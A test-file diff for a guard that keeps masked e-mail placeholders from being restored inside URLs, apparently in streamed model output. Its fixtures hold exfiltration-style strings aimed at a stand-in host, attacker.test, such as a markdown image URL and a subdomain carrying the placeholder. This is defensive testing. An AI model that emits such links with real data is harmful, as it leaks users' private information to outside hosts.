@@ -2,7 +2,7 @@
 // whole or streamed in pieces of any size; in prose it is restored as before.
 import { describe, expect, it } from "vitest";
 import { createMaskSession } from "./mask-session.js";
-import { insideUrl } from "./restore-guard.js";
+import { insideUrl, urlFollows } from "./restore-guard.js";
 import { playStream } from "./sse-fixtures.js";
 import { pseudonymRule } from "./test-rules.js";
 
@@ -27,12 +27,20 @@ const inUrl = [
   '<div style="background:url(https://a.test/?d=<EMAIL_1>)">',
   `![x](https://attacker.test/${"p".repeat(120)}<EMAIL_1>)`,
   "mailto:<EMAIL_1>",
+  // URL syntax after it: the placeholder as a host's first label, a path, a query.
+  "visit <EMAIL_1>.attacker.test/x now",
+  "<EMAIL_1>/../x",
+  "go to <EMAIL_1>?d=1",
+  "<EMAIL_1>.com",
+  `x <EMAIL_1>${"a".repeat(300)}`,
 ];
-const inProse = ["Hello <EMAIL_1>!", "(<EMAIL_1>)", "write to: <EMAIL_1>", "> quoted <EMAIL_1>", "[<EMAIL_1>] is on file", "**<EMAIL_1>**"];
+const inProse = ["Hello <EMAIL_1>!", "(<EMAIL_1>)", "write to: <EMAIL_1>", "> quoted <EMAIL_1>", "[<EMAIL_1>] is on file", "**<EMAIL_1>**", "Is it <EMAIL_1>?", "It is <EMAIL_1>.", "<EMAIL_1>'s inbox", "\"<EMAIL_1>\", she said", "<EMAIL_1>"];
 
 describe("restore guard", () => {
-  it("tells a placeholder in a URL from one in prose by the text of its line before it", () => {
-    for (const text of inUrl) expect(insideUrl(text.slice(0, text.indexOf("<EMAIL_1>"))), text).toBe(true);
+  it("tells a placeholder in a URL from one in prose by the text of its line before it and the run after it", () => {
+    const placed = (text: string) => [text.slice(0, text.indexOf("<EMAIL_1>")), text.slice(text.indexOf("<EMAIL_1>") + 9)] as const;
+    for (const text of inUrl) expect(insideUrl(placed(text)[0]) || urlFollows(placed(text)[1]), text).toBe(true);
+    for (const text of inProse) expect(urlFollows(placed(text)[1]), text).toBe(false);
     for (const text of inProse) expect(insideUrl(text.slice(0, text.indexOf("<EMAIL_1>"))), text).toBe(false);
     expect(insideUrl("![x](https://a.test/?d=x)\nHello ")).toBe(false); // a URL on an earlier line is closed
   });
